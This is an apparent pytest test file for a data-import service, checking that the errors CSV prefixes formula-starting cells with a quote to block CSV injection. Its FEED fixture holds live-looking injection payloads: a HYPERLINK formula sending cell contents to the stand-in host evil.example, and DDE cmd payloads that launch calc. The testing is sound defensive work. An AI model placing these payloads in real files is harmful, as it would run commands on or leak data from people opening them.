"""Finding 12: the import errors CSV passed spreadsheet formulas through (`=HYPERLINK(...)`, `+cmd`,
`@SUM`), to viewers too. Every cell we write, header row included, that starts with `=`, `+`, `-`,
`@`, a tab or a carriage return now gets a leading `'` (OWASP, CSV injection)."""

import csv
import io

from app.csv_output import formula_safe
from tests.imports.conftest import IMPORT, confirm, upload, wait_done

# a header and cells that a spreadsheet would run; the price cell makes each row fail
FEED = (
    b'sku,=HYPERLINK("http://evil.example/?"&A1;"click"),price\r\n'
    b"F-1,+cmd|' /C calc'!A0,not a number\r\n"
    b"F-2,@SUM(1+1)*cmd|' /C calc'!A0,-x\r\n"
    b'"\tF-3","\rtrick",=1+2\r\n'
    b"F-4,plain text,also bad\r\n"
)


async def test_errors_csv_cells_are_formula_safe(client, tenant, worker):
    r = await upload(client, tenant.editor, FEED)
    assert r.status_code == 201, r.text
    job = r.json()
    headers = [c["header"] for c in job["columns"]]
    mapping = {headers[0]: "sku", headers[1]: "note", headers[2]: "price"}
    schema = [{"name": "note", "type": "string"}, {"name": "price", "type": "number"}]
    assert (
        await confirm(client, tenant.editor, job, mapping=mapping, schema=schema)
    ).status_code == 202
    done = await wait_done(client, tenant.editor, job["job_id"])
    assert done["status"] == "done" and done["failed"] == 4, done

    r = await client.get(f"{IMPORT}/{job['job_id']}/errors/", headers=tenant.viewer)
    assert r.status_code == 200, r.text
    table = list(csv.reader(io.StringIO(r.text, newline="")))
    assert table[0] == [
        "sku",
        '\'=HYPERLINK("http://evil.example/?"&A1;"click")',
        "price",
        "row",
        "error",
    ]
    cells = [row[:3] for row in table[1:]]
    assert cells == [
        ["F-1", "'+cmd|' /C calc'!A0", "not a number"],
        ["F-2", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-x"],
        ["'\tF-3", "'\rtrick", "'=1+2"],
        ["F-4", "plain text", "also bad"],
    ]
    # no cell of the file, error messages included, starts with a formula character
    assert not [c for row in table for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_formula_safe_leaves_other_values_alone():
    assert [formula_safe(v) for v in ("a=b", "", " =x", 7, -3, None)] == [
        "a=b",
        "",
        " =x",
        7,
        -3,
        None,
    ]
    assert [formula_safe(v) for v in ("=", "+1", "-1", "@a", "\tx", "\rx")] == [
        "'=",
        "'+1",
        "'-1",
        "'@a",
        "'\tx",
        "'\rx",
    ]
